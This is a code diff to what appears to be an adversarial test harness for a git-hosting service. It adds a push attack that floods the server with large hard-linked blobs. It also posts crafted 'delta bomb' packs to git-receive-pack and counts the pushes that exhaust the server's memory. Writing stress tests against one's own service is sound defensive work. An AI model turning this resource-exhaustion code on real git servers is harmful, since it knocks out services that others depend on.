@@ -4,14 +4,17 @@ import asyncio
 import json
 import os
 import tempfile
+from collections import Counter
 from collections.abc import Awaitable, Callable, Sequence
 from contextlib import suppress
-from dataclasses import dataclass
+from dataclasses import dataclass, field
+from itertools import cycle
 from pathlib import Path
 from urllib.parse import urlsplit
 from uuid import UUID
 
 import httpx
+from delta_bomb import delta_bomb, push_body, top_rows
 from temporalio.client import Client
 
 from bench.edge_identities import status_of
@@ -28,6 +31,8 @@ IDLE_CONNECTIONS = 1_100
 STREAMS = 600
 UNFINISHED = 32
 SIGNALS = 5_000
+BOMB_BLOCKS = (100 * 16, 400 * 16)
+"""Of 64 KiB each, which git unpacks from a pack of a few kilobytes: what it may allocate, and more than that."""
 
 
 @dataclass(frozen=True)
@@ -40,6 +45,7 @@ class Target:
         tokens: permission -> operator token.
         ports: on which programs of the centre listen.
         certificate: of theirs, PEM.
+        met: how often something came of an attack that shows that it arrived, in a few words.
     """
 
     url: str
@@ -51,6 +57,7 @@ class Target:
     tokens: dict[str, str]
     ports: Sequence[int]
     certificate: str
+    met: Counter[str] = field(default_factory=Counter)
 
 
 Attack = Callable[[Target], Awaitable[None]]
@@ -157,23 +164,41 @@ async def reader(target: Target) -> None:
 
 
 async def pusher(target: Target) -> None:
-    """A token with ``push``: one blob under a thousand names, again and again."""
+    """A token with ``push``: one blob under a thousand names, and a small pack that unpacks to much more."""
     with tempfile.TemporaryDirectory(prefix="edgewright-siege-") as folder:
-        work = Path(folder)
+        copies, bombs = Path(folder) / "copies", Path(folder) / "bombs"
         remote = target.url.replace("://", f"://x:{target.tokens['push']}@")
-        while not (work / "work").exists():  # it may have to wait for a turn, as everybody
-            await _git(work, "clone", "-q", f"{remote}/uuid/{target.cluster}", "work")
-        copies = work / "work" / "by-hand"
-        copies.mkdir(exist_ok=True)
-        await asyncio.to_thread((copies / "blob-0").write_bytes, bytes(8 * 1024 * 1024))
-        for number in range(1, 1_000):
-            await asyncio.to_thread(os.link, copies / "blob-0", copies / f"blob-{number}")
-        await _git(work / "work", "add", "-A")
-        while True:
-            await _git(
-                work / "work", "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x", "--allow-empty"
-            )
-            await _git(work / "work", "push", "-q", "origin", "HEAD:main")
+        for clone in (copies, bombs):
+            while not clone.exists():  # it may have to wait for a turn, as everybody
+                await _git(Path(folder), "clone", "-q", f"{remote}/uuid/{target.cluster}", clone.name)
+        await asyncio.gather(_push_copies(copies), _push_bombs(target, bombs))
+
+
+async def _push_copies(clone: Path) -> None:
+    copies = clone / "by-hand"
+    copies.mkdir(exist_ok=True)
+    await asyncio.to_thread((copies / "blob-0").write_bytes, bytes(8 * 1024 * 1024))
+    for number in range(1, 1_000):
+        await asyncio.to_thread(os.link, copies / "blob-0", copies / f"blob-{number}")
+    await _git(clone, "add", "-A")
+    while True:
+        await _git(clone, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x", "--allow-empty")
+        await _git(clone, "push", "-q", "origin", "HEAD:main")
+        await asyncio.sleep(PAUSE)
+
+
+async def _push_bombs(target: Target, clone: Path) -> None:
+    headers = {"Content-Type": "application/x-git-receive-pack-request"}
+    async with _client(target, headers=headers, auth=httpx.BasicAuth("x", target.tokens["push"])) as http:
+        for blocks in cycle(BOMB_BLOCKS):
+            await _git(clone, "fetch", "-q", "origin")
+            head = (await _git(clone, "rev-parse", "origin/main")).strip()
+            rows = top_rows(await _git(clone, "ls-tree", "origin/main"))
+            new, content = await asyncio.to_thread(delta_bomb, head, rows, blocks)
+            with suppress(httpx.HTTPError):
+                body = push_body(head, new, content)
+                answer = await http.post(f"/uuid/{target.cluster}/git-receive-pack", content=body)
+                target.met[OUT_OF_MEMORY] += b"needs more memory" in answer.content
             await asyncio.sleep(PAUSE)
 
 
@@ -221,6 +246,9 @@ async def bulk_writer(target: Target) -> None:
         await asyncio.gather(lane(http, "one"), lane(http, "two"))
 
 
+OUT_OF_MEMORY = "pushes for which git got no more memory"
+ARRIVES: dict[str, Sequence[str]] = {"push-token": [OUT_OF_MEMORY]}
+"""What has to come of an attack; if it does not, nobody has been attacked."""
 ATTACKS: dict[str, Attack] = {
     "browser-page": browser_page,
     "spent-token": spent_token,
@@ -252,18 +280,19 @@ def _client(
     return httpx.AsyncClient(base_url=target.url, headers=headers, auth=auth, timeout=30, trust_env=False)
 
 
-async def _git(where: Path, *arguments: str) -> None:
-    """A refusal is what the attacker expects."""
+async def _git(where: Path, *arguments: str) -> str:
+    """Returns what git says; a refusal is what the attacker expects."""
     process = await asyncio.create_subprocess_exec(
         "git",
         *arguments,
         cwd=where,
         stdin=asyncio.subprocess.DEVNULL,
-        stdout=asyncio.subprocess.DEVNULL,
+        stdout=asyncio.subprocess.PIPE,
         stderr=asyncio.subprocess.DEVNULL,
     )
     try:
-        await process.wait()
+        said, _ = await process.communicate()
+        return said.decode()
     finally:
         if process.returncode is None:
             process.kill()
